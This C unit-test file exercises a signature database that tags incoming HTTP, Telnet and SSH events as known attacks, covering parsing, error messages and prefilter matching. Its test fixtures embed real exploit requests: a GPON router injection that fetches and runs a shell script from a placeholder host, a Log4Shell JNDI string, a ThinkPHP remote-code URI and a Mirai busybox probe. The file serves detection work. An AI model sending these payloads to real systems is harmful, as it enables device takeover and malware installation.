/* test_sig.c - unit tests for the signature database: the shipped files, the text format and its errors, matching. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "analyze/sig_impl.h"
#include "core/evt.h"

#define SHIPPED	HNP_SOURCE_ROOT "/data/signatures"

static struct sigdb *
load_text(const char *text, char *err, size_t errlen)
{
	return sigdb_load_mem("t.sig", text, strlen(text), err, errlen);
}

#define HEAD(id) "sig " id "\nname N\ncategory recon\nowasp I3\nabuseipdb 21\n"

static struct evt *
http_event(const char *fields, const char *payload)
{
	struct evt	*ev = evt_new_text("s", "http", "request", fields, strlen(fields));

	if (payload != NULL)
		evt_set_payload(ev, payload, strlen(payload), strlen(payload));
	return ev;
}

static int
has_tag(const struct evt *ev, const char *id)
{
	size_t	 i;

	for (i = 0; i < json_array_size(ev->tags); i++)
		if (strcmp(json_string_value(json_array_get(ev->tags, i)), id) == 0)
			return 1;
	return 0;
}

static void
test_shipped(void **state)
{
	struct sigdb		*db;
	const struct sig	*s;
	char			 err[512];
	size_t			 i, k;

	db = sigdb_load(SHIPPED, err, sizeof(err));
	if (db == NULL)
		fail_msg("%s", err);
	assert_true(sigdb_count(db) >= 60);
	for (i = 0; i < sigdb_count(db); i++) {
		s = sigdb_at(db, i);
		assert_ptr_equal(sigdb_find(db, s->id), s);
		assert_true(s->name[0] != '\0');
		assert_true(s->nowasp > 0);
		assert_true(s->nabuseipdb > 0);
		for (k = 0; k < s->ncves; k++)
			assert_int_equal(strncmp(s->cves[k], "CVE-", 4), 0);
		assert_non_null(strstr(s->file, ".sig"));
		assert_true(s->line > 0);
	}
	s = sigdb_find(db, "gpon-rce");
	assert_non_null(s);
	assert_string_equal(s->cves[0], "CVE-2018-10562");
	assert_string_equal(s->category, "exploit");
	assert_null(sigdb_find(db, "no-such-signature"));
	sigdb_free(db);
}

static void
test_mappings(void **state)
{
	assert_string_equal(sig_owasp_title("I1"), "Weak, Guessable, or Hardcoded Passwords");
	assert_string_equal(sig_owasp_title("I10"), "Lack of Physical Hardening");
	assert_null(sig_owasp_title("I11"));
	assert_null(sig_owasp_title("I0"));
	assert_null(sig_owasp_title("i1"));
	assert_string_equal(sig_abuseipdb_name(18), "Brute-Force");
	assert_string_equal(sig_abuseipdb_name(22), "SSH");
	assert_string_equal(sig_abuseipdb_name(23), "IoT Targeted");
	assert_null(sig_abuseipdb_name(0));
	assert_null(sig_abuseipdb_name(24));
}

static void
test_record(void **state)
{
	struct sigdb		*db;
	const struct sig	*s;
	char			 err[256];

	db = load_text("# c\n\nsig x-1\n  name  Example one \n cve CVE-2018-10561 CVE-2021-44228\n"
	    "category exploit\nowasp I1 I10\nabuseipdb 15,21 23\nnote more words\nproto http\n"
	    "match path contains /a\n", err, sizeof(err));
	if (db == NULL)
		fail_msg("%s", err);
	s = sigdb_find(db, "x-1");
	assert_non_null(s);
	assert_string_equal(s->name, "Example one");
	assert_int_equal(s->ncves, 2);
	assert_string_equal(s->cves[1], "CVE-2021-44228");
	assert_int_equal(s->nowasp, 2);
	assert_string_equal(s->owasp[1], "I10");
	assert_int_equal(s->nabuseipdb, 3);
	assert_int_equal(s->abuseipdb[0], 15);
	assert_int_equal(s->abuseipdb[2], 23);
	assert_string_equal(s->note, "more words");
	assert_string_equal(s->file, "t.sig");
	assert_int_equal(s->line, 3);
	sigdb_free(db);
}

/* Bad files: the message names file:line and says what is wrong. */
static void
test_errors(void **state)
{
	static const struct { const char *text, *msg; } cases[] = {
		{ "name x\n", "t.sig:1: \"name\" outside a signature" },
		{ "sig Bad\n", "t.sig:1: bad signature id" },
		{ HEAD("a") "match path contains /a\nfoo bar\n", "t.sig:7: unknown keyword \"foo\"" },
		{ HEAD("a") "match path regex (\n", "t.sig:6: bad regex" },
		{ HEAD("a") "match path like x\n", "t.sig:6: unknown operator \"like\"" },
		{ HEAD("a") "match path contains\n", "t.sig:6: match needs FIELD OP VALUE" },
		{ HEAD("a") "match pa-th contains x\n", "t.sig:6: bad field name" },
		{ HEAD("a") "match path contains a\\q\n", "t.sig:6: bad escape" },
		{ HEAD("a") "match path contains a\\x4\n", "t.sig:6: bad escape" },
		{ HEAD("a") "cve CVE-18-1\n", "t.sig:6: bad CVE id" },
		{ HEAD("a") "owasp I11\n", "t.sig:6: bad OWASP" },
		{ HEAD("a") "abuseipdb 24\n", "t.sig:6: bad AbuseIPDB category \"24\"" },
		{ HEAD("a") "abuseipdb x\n", "t.sig:6: bad AbuseIPDB category" },
		{ HEAD("a") "name again\n", "t.sig:6: second name line" },
		{ HEAD("a") "or\n", "t.sig:6: \"or\" with no match before it" },
		{ HEAD("a") "match path is x\nor\n", "t.sig:1: signature a: an \"or\" with no match" },
		{ HEAD("a"), "t.sig:1: signature a: no proto, kind or match line" },
		{ "sig a\ncategory x\nowasp I1\nabuseipdb 1\nproto http\n", "t.sig:1: signature a has "
		    "no name" },
		{ "sig a\nname n\ncategory x\nabuseipdb 1\nproto http\n", "t.sig:1: signature a has "
		    "no owasp line" },
		{ HEAD("a") "proto http\n" HEAD("b") "proto http\n" HEAD("a") "proto http\n",
		    "t.sig:13: signature a already defined at t.sig:1" },
		{ HEAD("a") "proto http\nmatch path contains a\0b\n", "t.sig:7: NUL byte" },
	};
	struct sigdb	*db;
	char		 err[256];
	size_t		 i, len;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		len = strlen(cases[i].text);
		if (strstr(cases[i].msg, "NUL") != NULL)
			len += 3;	/* past the NUL */
		db = sigdb_load_mem("t.sig", cases[i].text, len, err, sizeof(err));
		if (db != NULL)
			fail_msg("case %zu loaded", i);
		if (strncmp(err, cases[i].msg, strlen(cases[i].msg)) != 0)
			fail_msg("case %zu: got \"%s\", want \"%s\"", i, err, cases[i].msg);
	}
	db = sigdb_load("/nonexistent/sigs", err, sizeof(err));
	assert_null(db);
	assert_non_null(strstr(err, "/nonexistent/sigs: No such file"));
}

/* Operators, alternatives, negation, escapes, derived HTTP fields. */
static void
test_match(void **state)
{
	static const char text[] =
	    HEAD("is") "match method is PUT DELETE\n"
	    HEAD("contains") "match path|uri contains /x /y\n"
	    HEAD("icontains") "match user_agent icontains zgrab\n"
	    HEAD("starts") "match path starts /cgi-bin/\n"
	    HEAD("istarts") "match uri istarts http://\n"
	    HEAD("ends") "match path ends .php\n"
	    HEAD("regex") "match uri regex ^/a+b$\n"
	    HEAD("neg") "proto http\nmatch method !is GET POST PUT\n"
	    HEAD("alt") "match path is /one\nor\nmatch path is /two\n"
	    HEAD("line") "match request_line contains \\sHTTP/1.0\n"
	    HEAD("hdr") "match header_lines contains X-A:\\sb\n"
	    HEAD("body") "match body is k=v\n"
	    HEAD("dec") "match decoded_uri contains a\\sb/c\n"
	    HEAD("port") "match dst_port is 8080\n"
	    HEAD("int") "match body_len is 3\n"
	    HEAD("chain") "match tags is dec\n"
	    HEAD("kindonly") "kind request\nproto ssh\n";
	static const struct {
		const char	*fields, *payload, *want[8];
	} cases[] = {
		{ "{\"method\":\"PUT\",\"path\":\"/x\",\"uri\":\"/x\"}", NULL,
		    { "is", "contains" } },
		{ "{\"method\":\"GET\",\"path\":\"/q\",\"uri\":\"/q?/y\"}", NULL, { "contains" } },
		{ "{\"method\":\"GET\",\"path\":\"/\",\"user_agent\":\"Mozilla zGrab/0.x\"}", NULL,
		    { "icontains" } },
		{ "{\"method\":\"GET\",\"path\":\"/cgi-bin/a.php\",\"uri\":\"/cgi-bin/a.php\"}",
		    NULL, { "starts", "ends" } },
		{ "{\"method\":\"GET\",\"path\":\"/\",\"uri\":\"HTTP://h/\"}", NULL, { "istarts" } },
		{ "{\"method\":\"GET\",\"uri\":\"/aaab\"}", NULL, { "regex" } },
		{ "{\"method\":\"GET\",\"uri\":\"/aaabc\"}", NULL, { NULL } },
		{ "{\"method\":\"HEAD\",\"path\":\"/two\"}", NULL, { "neg", "alt" } },
		{ "{\"method\":\"POST\",\"uri\":\"/a%20b%2fc+d\",\"body_len\":3}",
		    "POST /a%20b%2fc+d HTTP/1.0\r\nX-A: b\r\nX-C: d\r\n\r\nk=v",
		    { "line", "hdr", "body", "dec", "int", "chain" } },
		{ "{\"method\":\"POST\",\"uri\":\"/\"}", "POST / HTTP/1.1\nX-A: b\n\nk=v",
		    { "hdr", "body" } },
		{ "{\"method\":\"POST\",\"uri\":\"/\"}", "POST / HTTP/1.1\r\nX-A: c\r\n\r\nX-A: b",
		    { NULL } },
	};
	struct sigdb	*db;
	struct evt	*ev;
	char		 err[256];
	size_t		 i, k, n;

	db = load_text(text, err, sizeof(err));
	if (db == NULL)
		fail_msg("%s", err);
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		ev = http_event(cases[i].fields, cases[i].payload);
		ev->dst_port = 80;
		for (n = 0; cases[i].want[n] != NULL; n++)
			if (!has_tag(ev, cases[i].want[n]) && sigdb_classify(db, ev) >= 0 &&
			    !has_tag(ev, cases[i].want[n]))
				fail_msg("case %zu: %s did not match", i, cases[i].want[n]);
		sigdb_classify(db, ev);
		if (json_array_size(ev->tags) != n) {
			char	*s = json_dumps(ev->tags, 0);

			fail_msg("case %zu: tags %s, want %zu", i, s, n);
		}
		for (k = 0; k < n; k++)
			assert_true(has_tag(ev, cases[i].want[k]));
		evt_free(ev);
	}
	sigdb_free(db);
}

/* Reclassifying keeps tags that are not signature ids and drops stale ones. */
static void
test_retag(void **state)
{
	struct sigdb	*db;
	struct evt	*ev;
	char		 err[256];

	db = load_text(HEAD("a") "match path is /a\n" HEAD("b") "match tags is mirai\n", err,
	    sizeof(err));
	assert_non_null(db);
	ev = http_event("{\"path\":\"/z\"}", NULL);
	ev->tags = json_pack("[sss]", "mirai", "a", "other");
	assert_int_equal(sigdb_classify(db, ev), 1);
	assert_int_equal(json_array_size(ev->tags), 3);
	assert_true(has_tag(ev, "mirai"));
	assert_true(has_tag(ev, "other"));
	assert_true(has_tag(ev, "b"));
	assert_false(has_tag(ev, "a"));
	evt_free(ev);
	sigdb_free(db);
}

/* An event finds its (proto, kind) group whatever follows the NUL of its names, and never a group
 * built for a longer name than its array holds. */
static void
test_group_names(void **state)
{
	static const char text[] = HEAD("req") "kind request\nmatch path is /a\n"
	    HEAD("long") "proto abcdefghijklmnopq\n";
	struct sigdb	*db;
	struct evt	*ev;
	char		 err[256];
	int		 i;

	db = load_text(text, err, sizeof(err));
	if (db == NULL)
		fail_msg("%s", err);
	for (i = 0; i < 2; i++) {
		ev = http_event("{\"path\":\"/a\"}", NULL);
		if (i == 1) {	/* not padded: found by name, not by the whole array */
			memset(ev->proto + 5, 'x', sizeof(ev->proto) - 6);
			memset(ev->kind + 8, 'y', sizeof(ev->kind) - 9);
		}
		assert_int_equal(sigdb_classify(db, ev), 1);
		assert_true(has_tag(ev, "req"));
		evt_free(ev);
	}
	/* Looked up by its full name first; the event's copy is cut to 15 bytes. */
	assert_int_equal(sigdb_reads_client(db, "abcdefghijklmnopq", "request"), 0);
	ev = evt_new_text("s", "abcdefghijklmnopq", "request", "{}", 2);
	assert_string_equal(ev->proto, "abcdefghijklmno");
	assert_int_equal(sigdb_classify(db, ev), 0);
	evt_free(ev);
	sigdb_free(db);
}

/* The quick test before a candidate's conditions rejects only what cannot match: every case's
 * tags are those of the full evaluation, and each signature here matches at least one case. */
static void
test_quick(void **state)
{
	static const char text[] =
	    HEAD("nul") "match payload starts \\x00\n"
	    HEAD("second") "match payload starts GET POST\n"
	    HEAD("icase") "match payload istarts get\n"
	    HEAD("iword") "match payload istarts HEAD\n"
	    HEAD("high") "match payload starts \\xff\\xfe\n"
	    HEAD("tag") "kind connect\nmatch tags is mirai\n"
	    HEAD("chain") "match tags is nul\n"
	    HEAD("neg") "match payload !starts GET POST HEAD\n"
	    HEAD("or") "match payload starts A\nor\nmatch path is /x\n"
	    HEAD("ports") "match dst_port|src_port is 2375\n"
	    HEAD("long") "match path is /aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n"
	    HEAD("longstart") "match path starts /bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
	    "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb\n";
	static const struct {
		const char	*kind, *fields, *payload;
		size_t		 plen;
		uint16_t	 src_port;
		const char	*tags, *want;
	} cases[] = {
		{ "request", "{}", "\0\0\0\x45\xffSMB", 9, 0, NULL,
		    "[\"nul\", \"chain\", \"neg\"]" },
		{ "request", "{}", "POST / HTTP/1.1", 15, 0, NULL, "[\"second\"]" },
		{ "request", "{}", "GeT / HTTP/1.1", 14, 0, NULL, "[\"icase\", \"neg\"]" },
		{ "request", "{}", "head / HTTP/1.1", 15, 0, NULL, "[\"iword\", \"neg\"]" },
		{ "request", "{}", "\xff\xfeSMB", 5, 0, NULL, "[\"high\", \"neg\"]" },
		{ "connect", "{}", NULL, 0, 0, "[\"other\", \"mirai\"]",
		    "[\"other\", \"mirai\", \"tag\", \"neg\"]" },
		{ "request", "{\"path\":\"/x\"}", "B", 1, 0, NULL, "[\"neg\", \"or\"]" },
		{ "request", "{}", "A", 1, 0, NULL, "[\"neg\", \"or\"]" },
		{ "request", "{\"path\":\"/\"}", "GET /", 5, 2375, NULL,
		    "[\"second\", \"icase\", \"ports\"]" },
		{ "request", "{\"path\":\"/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
		    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"}",
		    "GET /", 5, 0, NULL, "[\"second\", \"icase\", \"long\"]" },
		{ "request", "{\"path\":\"/bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
		    "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbc\"}",
		    "GET /", 5, 0, NULL, "[\"second\", \"icase\", \"longstart\"]" },
		{ "request", "{\"path\":\"/y\"}", "GET /", 5, 0, NULL, "[\"second\", \"icase\"]" },
	};
	struct sigdb	*db;
	struct evt	*ev;
	json_t		*want;
	char		 err[256], *a, *b;
	size_t		 i;
	int		 pass;

	db = load_text(text, err, sizeof(err));
	if (db == NULL)
		fail_msg("%s", err);
	/* The test is there: on anchored first conditions only. */
	for (i = 0; i < db->n; i++)
		assert_int_equal(db->recs[i].quick, strcmp(db->recs[i].pub.id, "chain") == 0 ||
		    strcmp(db->recs[i].pub.id, "neg") != 0);
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		for (pass = 0; pass < 2; pass++) {
			ev = evt_new_text("s", "http", cases[i].kind, cases[i].fields,
			    strlen(cases[i].fields));
			if (cases[i].payload != NULL)
				evt_set_payload(ev, cases[i].payload, cases[i].plen, cases[i].plen);
			ev->src_port = cases[i].src_port;
			ev->dst_port = 80;
			if (cases[i].tags != NULL)
				ev->tags = json_loads(cases[i].tags, 0, NULL);
			db->no_prefilter = pass;	/* 1: every candidate, no quick test */
			sigdb_classify(db, ev);
			db->no_prefilter = 0;
			want = json_loads(cases[i].want, 0, NULL);
			if (ev->tags == NULL || !json_equal(ev->tags, want)) {
				a = json_dumps(ev->tags, 0);
				b = json_dumps(want, 0);
				fail_msg("case %zu%s: tags %s, want %s", i, pass ? " (all)" : "",
				    a ? a : "[]", b);
			}
			json_decref(want);
			evt_free(ev);
		}
	}
	sigdb_free(db);
}

/* The automaton at its size limit and past it (no prefilter): the first and last words match. */
static void
test_prefilter_size(void **state)
{
	struct sigdb	*db;
	struct evt	*ev;
	char		*text, err[256], id[16], fields[64];
	size_t		 len, size, nwords, w;
	int		 big, n;

	for (big = 0; big < 2; big++) {
		nwords = big ? 3751 : 3749;	/* 16 bytes each: 59,984 or 60,016 */
		size = nwords * 17 + (nwords / 64 + 1) * 128;
		text = malloc(size);
		assert_non_null(text);
		for (len = 0, w = 0; w < nwords; w++) {
			if (w % 64 == 0) {
				snprintf(id, sizeof(id), "s%zu", w / 64);
				len += (size_t)snprintf(text + len, size - len, "%s" HEAD("%s")
				    "match path contains", w > 0 ? "\n" : "", id);
			}
			/* Words apart from their second byte: about 12 states each. */
			len += (size_t)snprintf(text + len, size - len, " /%04zu-abcdefghij", w);
		}
		text[len++] = '\n';
		db = sigdb_load_mem("t.sig", text, len, err, sizeof(err));
		free(text);
		if (db == NULL)
			fail_msg("%s", err);
		assert_true(big ? db->ac.delta == NULL : db->ac.nstates > 0x8000);
		for (w = 0; w < nwords; w += nwords - 1) {
			snprintf(fields, sizeof(fields), "{\"path\":\"/%04zu-abcdefghij\"}", w);
			ev = http_event(fields, NULL);
			n = sigdb_classify(db, ev);
			snprintf(id, sizeof(id), "s%zu", w / 64);
			if (n != 1 || !has_tag(ev, id))
				fail_msg("%zu words: word %zu not %s", nwords, w, id);
			evt_free(ev);
		}
		sigdb_free(db);
	}
}

/* The shipped signatures on requests from the field (one per family). */
static void
test_shipped_match(void **state)
{
	static const struct { const char *fields, *payload, *want; } cases[] = {
		{ "{\"method\":\"POST\",\"uri\":\"/GponForm/diag_Form?images/\",\"path\":"
		    "\"/GponForm/diag_Form\"}", "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\n"
		    "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+"
		    "http://1.2.3.4/m+-O+/tmp/gaf;sh+/tmp/gaf`&ipv=0", "gpon-rce" },
		{ "{\"method\":\"GET\",\"uri\":\"/\",\"path\":\"/\"}", "GET / HTTP/1.1\r\n"
		    "User-Agent: ${${lower:j}ndi:ldap://x/a}\r\n\r\n", "log4shell" },
		{ "{\"method\":\"GET\",\"uri\":\"/index.php?s=/Index/\\\\think\\\\app/invokefunction"
		    "&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP\",\"path\":"
		    "\"/index.php\"}", NULL, "thinkphp-invokefunction-rce" },
		{ "{\"method\":\"GET\",\"uri\":\"/.git/config\",\"path\":\"/.git/config\"}", NULL,
		    "vcs-leak" },
		{ "{\"method\":\"CONNECT\",\"uri\":\"example.com:443\",\"path\":\"example.com:443\"}",
		    NULL, "proxy-connect-probe" },
	};
	struct sigdb	*db;
	struct evt	*ev;
	char		 err[512];
	size_t		 i;

	db = sigdb_load(SHIPPED, err, sizeof(err));
	assert_non_null(db);
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		ev = http_event(cases[i].fields, cases[i].payload);
		sigdb_classify(db, ev);
		if (!has_tag(ev, cases[i].want))
			fail_msg("case %zu: %s not in %s", i, cases[i].want,
			    json_dumps(ev->tags, 0));
		evt_free(ev);
	}
	/* A Telnet signature's words in an HTTP request do not make it a Telnet signature hit. */
	ev = http_event("{\"method\":\"GET\",\"uri\":\"/x\",\"path\":\"/x\"}",
	    "GET /x HTTP/1.1\r\nX: /bin/busybox MIRAI; cat /proc/cpuinfo\r\n\r\n");
	sigdb_classify(db, ev);
	assert_false(has_tag(ev, "mirai-busybox-check"));
	assert_false(has_tag(ev, "shell-recon"));
	evt_free(ev);
	/* A Telnet signature's words in an HTTP request do not make it a Telnet signature hit. */
	ev = http_event("{\"method\":\"GET\",\"uri\":\"/x\",\"path\":\"/x\"}",
	    "GET /x HTTP/1.1\r\nX: /bin/busybox MIRAI; cat /proc/cpuinfo\r\n\r\n");
	sigdb_classify(db, ev);
	assert_false(has_tag(ev, "mirai-busybox-check"));
	assert_false(has_tag(ev, "shell-recon"));
	evt_free(ev);
	/* A plain page fetch is no attack. */
	ev = http_event("{\"method\":\"GET\",\"uri\":\"/\",\"path\":\"/\",\"user_agent\":\"curl\"}",
	    "GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: curl\r\n\r\n");
	assert_int_equal(sigdb_classify(db, ev), 0);
	assert_null(ev->tags);
	evt_free(ev);
	sigdb_free(db);
}

/* The literal prefilter never changes the result: every shipped signature's words, in every
 * field, with and without it. */
static void
test_prefilter_equivalence(void **state)
{
	static const char *const protos[][2] = { { "http", "request" }, { "telnet", "command" },
	    { "ssh", "login" }, { "tcp", "payload" }, { "http", "connect" } };
	struct sigdb		*db;
	struct evt		*ev;
	const struct sig_rec	*r;
	const struct sig_cond	*c;
	char			 err[512], fields[1024], payload[1024], *a, *b;
	size_t			 i, k, w, p, total = 0;

	db = sigdb_load(SHIPPED, err, sizeof(err));
	assert_non_null(db);
	for (i = 0; i < db->n; i++) {
		r = &db->recs[i];
		for (k = 0; k < r->nclauses && r->clauses[k].nconds > 0; k++) {
			c = &r->clauses[k].conds[0];
			for (w = 0; w < c->nwords; w++) {
				char	 word[256];

				snprintf(word, sizeof(word), "%.*s", (int)c->wlen[w], c->words[w]);
				for (p = 0; p < sizeof(protos) / sizeof(protos[0]); p++) {
					json_t	*o = json_pack("{ssssssssss}", "method", word, "uri", word,
					    "path", word, "line", word, "password", word);
					char	*t = json_dumps(o, JSON_COMPACT);

					snprintf(fields, sizeof(fields), "%s", t);
					free(t);
					json_decref(o);
					snprintf(payload, sizeof(payload), "GET /%s HTTP/1.1\r\nX: %s\r\n\r\n%s",
					    word, word, word);
					ev = evt_new_text("s", protos[p][0], protos[p][1], fields,
					    strlen(fields));
					evt_set_payload(ev, payload, strlen(payload), strlen(payload));
					sigdb_classify(db, ev);
					a = json_dumps(ev->tags, 0);
					db->no_prefilter = 1;
					sigdb_classify(db, ev);
					db->no_prefilter = 0;
					b = json_dumps(ev->tags, 0);
					if ((a == NULL) != (b == NULL) || (a != NULL && strcmp(a, b) != 0))
						fail_msg("%s %s \"%s\": %s vs %s", protos[p][0], protos[p][1],
						    word, a ? a : "[]", b ? b : "[]");
					total += json_array_size(ev->tags);
					free(a);
					free(b);
					evt_free(ev);
				}
			}
		}
	}
	assert_true(total > 100);
	sigdb_free(db);
}

int
main(void)
{
	const struct CMUnitTest	 tests[] = {
		cmocka_unit_test(test_shipped),
		cmocka_unit_test(test_mappings),
		cmocka_unit_test(test_record),
		cmocka_unit_test(test_errors),
		cmocka_unit_test(test_match),
		cmocka_unit_test(test_retag),
		cmocka_unit_test(test_group_names),
		cmocka_unit_test(test_quick),
		cmocka_unit_test(test_prefilter_size),
		cmocka_unit_test(test_shipped_match),
		cmocka_unit_test(test_prefilter_equivalence),
	};

	return cmocka_run_group_tests_name("sig", tests, NULL, NULL);
}
